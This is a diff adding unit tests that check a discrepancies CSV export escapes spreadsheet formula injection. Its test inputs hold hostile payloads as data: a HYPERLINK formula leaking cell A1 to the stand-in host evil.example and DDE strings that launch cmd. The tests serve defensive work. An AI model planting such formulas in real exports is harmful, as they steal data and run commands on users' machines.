@@ -271,3 +271,44 @@ describe('formatProgress', () => {
     expect(formatProgress({ runId: 'r-1', status: 'queued' }, 500, 0, 20)).toMatch(/^run r-1 queued [█░]{20} \| 0 s$/);
   });
 });
+
+describe('discrepanciesCsv against CSV injection', () => {
+  const rowOf = (text: string) => {
+    const [header, row] = parseCsv(text) as [string[], string[]];
+    return Object.fromEntries(header.map((column, index) => [column, row[index]]));
+  };
+
+  it('prefixes with a quote the text cells a spreadsheet would read as a formula, inside proper CSV quoting', () => {
+    const row = rowOf(
+      discrepanciesCsv([
+        discrepancy({
+          status: 'resolved',
+          acknowledgedBy: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+          acknowledgedNote: "+1+cmd|' /C calc'!A0",
+          resolvedBy: "@SUM(1+1)*cmd|' /C calc'!A0",
+          resolvedNote: '-2+3',
+          asset: '\t=1+1',
+          userId: '\r=1+1',
+        }),
+      ]),
+    );
+    expect(row).toMatchObject({
+      acknowledgedBy: '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
+      acknowledgedNote: "'+1+cmd|' /C calc'!A0",
+      resolvedBy: "'@SUM(1+1)*cmd|' /C calc'!A0",
+      resolvedNote: "'-2+3",
+      asset: "'\t=1+1",
+      userId: "'\r=1+1",
+    });
+  });
+
+  it('keeps amounts numeric, a negative amount included, and escapes an amount that is not a plain decimal', () => {
+    const row = rowOf(discrepanciesCsv([discrepancy({ difference: '-1.5', actual: '-0.000000000000000001', expected: '=1+2' })]));
+    expect(row).toMatchObject({ difference: '-1.5', actual: '-0.000000000000000001', expected: "'=1+2", runsSeen: '2' });
+    expect(discrepanciesCsv([discrepancy({ difference: '-1.5' })])).toContain(',-1.5,');
+  });
+
+  it('leaves text that starts harmlessly as it is', () => {
+    expect(rowOf(discrepanciesCsv([discrepancy({ acknowledgedNote: 'a = b, then -1' })])).acknowledgedNote).toBe('a = b, then -1');
+  });
+});
